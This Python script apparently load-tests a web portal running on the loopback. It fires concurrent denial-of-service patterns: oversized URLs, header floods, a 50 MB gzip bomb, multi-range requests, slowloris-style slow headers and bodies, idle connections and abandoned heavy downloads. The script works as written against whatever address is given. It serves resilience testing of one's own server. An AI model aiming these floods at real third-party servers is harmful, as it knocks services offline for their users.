"""What a portal on the open net meets, all at once and against a portal of our own on the loopback:
`python attacks.py http://127.0.0.1:PORT SECONDS [KIND]`."""

from __future__ import annotations

import asyncio
import gzip
import sys
import time

SHAPES = b"POST /api/shapes HTTP/1.1\r\nHost: x\r\n"
BOMB = gzip.compress(b"\0" * 50_000_000)
RANGES = b"bytes=" + b",".join(b"%d-%d" % (n, n) for n in range(1_000))
# One after the other from one connection each, as fast as they are answered.
BURSTS = {
    "1 MB address": (b"GET /?q=" + b"a" * 1_000_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n", 2),
    "header flood": (b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 10_000 + b"\r\n", 2),
    "1 GB body": (SHAPES + b"Content-Length: 1000000000\r\n\r\n" + b"a" * 100_000, 2),
    "gzip bomb": (SHAPES + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB) + BOMB, 2),
    "ranges": (b"GET /static/js/frame.js HTTP/1.1\r\nHost: x\r\nRange: " + RANGES + b"\r\n\r\n", 2),
    "no HTTP at all": (b"\x16\x03\x01\x02\x00\x01" * 100, 2),
}
SLOW_HEADS, SILENT, SLOW_BODIES, LEAVERS = 100, 100, 20, 4


async def burst(host: str, port: int, sent: bytes, end: float) -> None:
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            writer.write(sent)
            await asyncio.wait_for(reader.read(65536), 10)
            writer.close()
        except (OSError, TimeoutError):
            pass
        await asyncio.sleep(0.02)


async def drip(host: str, port: int, begin: bytes, end: float) -> None:
    """A byte a second, or none where there is no beginning."""
    while time.monotonic() < end:
        try:
            _, writer = await asyncio.open_connection(host, port)
            writer.write(begin)
            while time.monotonic() < end and not writer.is_closing():
                await asyncio.sleep(1)
                writer.write(b"a" if begin else b"")
            writer.close()
        except OSError:
            await asyncio.sleep(0.1)


async def leave(host: str, port: int, end: float) -> None:
    """Asks for heavy work and is gone."""
    while time.monotonic() < end:
        try:
            _, writer = await asyncio.open_connection(host, port)
            writer.write(b"GET /download/blocks.gpkg HTTP/1.1\r\nHost: x\r\n\r\n")
            await asyncio.sleep(0.3)
            writer.close()
        except OSError:
            await asyncio.sleep(0.1)


async def attack(host: str, port: int, seconds: float, only: str = "") -> None:
    end = time.monotonic() + seconds
    kinds = {
        **{name: [burst(host, port, sent, end) for _ in range(times)] for name, (sent, times) in BURSTS.items()},
        "slow heads": [drip(host, port, b"GET / HTTP/1.1\r\nX-", end) for _ in range(SLOW_HEADS)],
        "silence": [drip(host, port, b"", end) for _ in range(SILENT)],
        "slow bodies": [drip(host, port, SHAPES + b"Content-Length: 4000000\r\n\r\n", end) for _ in range(SLOW_BODIES)],
        "leavers": [leave(host, port, end) for _ in range(LEAVERS)],
    }
    await asyncio.gather(*(one for name, ones in kinds.items() if name.startswith(only) for one in ones))


if __name__ == "__main__":
    where = sys.argv[1].removeprefix("http://").split(":")
    asyncio.run(attack(where[0], int(where[1]), float(sys.argv[2]), *sys.argv[3:4]))
